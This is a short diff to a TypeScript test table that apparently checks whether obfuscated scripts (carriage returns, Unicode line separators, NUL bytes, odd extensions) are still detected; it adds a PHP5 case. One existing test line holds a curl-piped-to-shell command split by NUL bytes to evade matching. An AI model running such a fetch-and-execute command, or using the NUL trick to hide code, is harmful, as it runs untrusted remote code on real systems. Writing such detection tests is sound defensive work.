@@ -77,6 +77,7 @@ test.each<[string, string, Content]>([
   ['a carriage return in Python', 'app.py', build('app.py', String).replaceAll('\n', '\r')],
   ['a line separator behind a comment', 'app.js', `// a\u2028${JS}`],
   ['a NUL inside a word of a shell', 'app.sh', '#!/bin/bash\ncu\0rl -s "http://example.com/$1" | s\0h\n'],
+  ['another extension of PHP, behind a NUL', 'app.php5', build('app.php', (comment) => `${comment}\0`)],
   ['an extension in capitals', 'APP.JS', JS],
   ['a script without an extension', 'run', NODE],
   ['a script without an extension, behind a NUL', 'run', `${NODE}// \0\n`],
